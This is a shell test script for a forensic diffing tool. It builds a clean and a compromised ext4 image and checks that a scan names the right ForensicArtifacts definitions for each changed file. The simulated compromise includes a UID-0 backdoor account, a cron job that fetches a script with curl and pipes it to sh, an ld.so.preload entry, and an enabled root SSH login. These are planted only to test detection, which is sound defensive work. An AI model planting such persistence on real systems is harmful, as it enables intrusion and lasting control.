#!/bin/bash
# t3060: the default artifact set is upstream's ForensicArtifacts (Debian's forensic-artifacts
# package, /usr/share/artifacts) plus deltair's artifacts/. A plain `deltair scan` (no
# --artifacts) names, on every planted change that upstream covers (/etc/passwd, /etc/shadow,
# /etc/cron.d/*, /etc/ld.so.preload, /etc/ssh/sshd_config, auth.log, wtmp), exactly the
# definitions the independent matcher tests/data/artifacts/oracle.py gives for those two
# folders, with at least one upstream name each; the default set has no undefined group
# member (no warning). `artifacts list` warns, per member, about groups naming undefined
# definitions, and a missing upstream set is said on stderr.
. "$TOP/tests/cli/lib.sh"
need mke2fs jq python3
python3 -c 'import yaml' 2> /dev/null || skip "PyYAML is not installed"
UPSTREAM=/usr/share/artifacts
[ -f "$UPSTREAM/linux.yaml" ] || skip "the forensic-artifacts package is not installed"
unset DELTAIR_ARTIFACTS_UPSTREAM

T='2021-06-01 12:00:00 UTC'
UUID=6a0e2f54-7d3c-4f0e-9c55-3b1d2d7e0a11
mkdir -p gold/etc/cron.d gold/etc/ssh gold/var/log gold/root gold/home/alice
printf 'root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n' \
	> gold/etc/passwd
printf 'root:*:19000:0:99999:7:::\nalice:!:19000:0:99999:7:::\n' > gold/etc/shadow
printf 'Port 22\nPermitRootLogin no\n' > gold/etc/ssh/sshd_config
printf 'Jun  1 06:00:01 web01 sshd[1]: Server listening on 0.0.0.0 port 22.\n' > gold/var/log/auth.log
head -c 384 /dev/zero > gold/var/log/wtmp
find gold -depth -exec touch -h -d "$T" {} +
cp -a gold incident
(
	set -e
	cd incident
	echo 'sysbackup:x:0:0::/root:/bin/bash' >> etc/passwd
	echo 'sysbackup:$6$salt$hash:19500:0:99999:7:::' >> etc/shadow
	printf '*/5 * * * * root curl -s http://203.0.113.9/x | sh\n' > etc/cron.d/x
	echo /usr/local/lib/libsysd.so.1 > etc/ld.so.preload
	printf 'Port 22\nPermitRootLogin yes\n' > etc/ssh/sshd_config
	echo 'Jun  2 03:00:01 web01 sshd[9]: Accepted password for sysbackup' >> var/log/auth.log
	head -c 384 /dev/urandom >> var/log/wtmp
)
[ $? -eq 0 ] || die "planting the changes failed"
PLANTED='/etc/passwd /etc/shadow /etc/cron.d/x /etc/ld.so.preload /etc/ssh/sshd_config
/var/log/auth.log /var/log/wtmp'
# Two filesystems of one lineage (same UUID), as a gold and its clone.
mke2fs -q -F -t ext4 -U "$UUID" -d gold gold.img 16M > /dev/null || die "mke2fs failed"
mke2fs -q -F -t ext4 -U "$UUID" -d incident incident.img 16M > /dev/null || die "mke2fs failed"
dt_ok baseline --no-progress -o gold.dtree gold.img

dt scan --no-progress --no-rules --no-rows --baseline gold.dtree incident.img
expect_rc 1 "scan with the default artifact set"
cp out events.jsonl
grep -q 'warning' err && fail "the default artifact set warns: $(head -c 1000 err)"

# The truth: oracle.py over upstream's folder and ours, the users from the image's passwd.
for p in $PLANTED; do echo "f $p"; done |
	python3 "$TOP/tests/data/artifacts/oracle.py" --user root:/root --user alice:/home/alice \
		--user sysbackup:/root "$UPSTREAM" "$TOP/artifacts" > expected.tsv ||
	die "oracle.py failed"
python3 - expected.tsv events.jsonl "$UPSTREAM" << 'EOF' || fail "artifact names are not the oracle's"
import glob, json, sys, yaml
exp = dict(l.rstrip("\n").split("\t", 1) for l in open(sys.argv[1]))
ev = {e["path"]: e for e in map(json.loads, open(sys.argv[2])) if e.get("event") == "file"}
upstream = {d["name"] for f in glob.glob(sys.argv[3] + "/*.yaml")
            for d in yaml.safe_load_all(open(f)) if d}
bad = []
for p, names in exp.items():
    want = names.split()
    got = ev.get(p, {}).get("artifacts")
    if got is None:
        bad.append("%s: no file event or no artifacts" % p)
    elif got != want:
        bad.append("%s: artifacts %s, oracle %s" % (p, got, want))
    elif not set(got) & upstream:
        bad.append("%s: no upstream definition named: %s" % (p, got))
for b in bad:
    print("  " + b)
sys.exit(1 if bad else 0)
EOF

# A group naming an undefined member is said, member by member.
mkdir own
cat > own/g.yaml << 'EOF'
name: LocalGroup
doc: A group with one member that exists nowhere.
sources:
- type: ARTIFACT_GROUP
  attributes:
    names: [LinuxPasswdFile, NoSuchDefinitionAnywhere]
supported_os: [Linux]
EOF
dt artifacts list -a "$UPSTREAM" -a own
expect_rc 0 "artifacts list with an undefined group member"
grep -q "^deltair: artifacts: warning: artifact group 'LocalGroup' names 'NoSuchDefinitionAnywhere', which no loaded file defines$" err ||
	fail "no warning naming the undefined member: $(head -c 1000 err)"
grep "warning: artifact group" err | grep -qv NoSuchDefinitionAnywhere &&
	fail "a defined member is warned about: $(head -c 1000 err)"

# Without upstream's set the default falls back to ours, and says so.
DELTAIR_ARTIFACTS_UPSTREAM=$PWD/nowhere dt artifacts list
expect_rc 0 "artifacts list without upstream's set"
grep -q "warning: no upstream ForensicArtifacts in '$PWD/nowhere' (install the forensic-artifacts package)" err ||
	fail "a missing upstream set is not said: $(head -c 1000 err)"
t_done
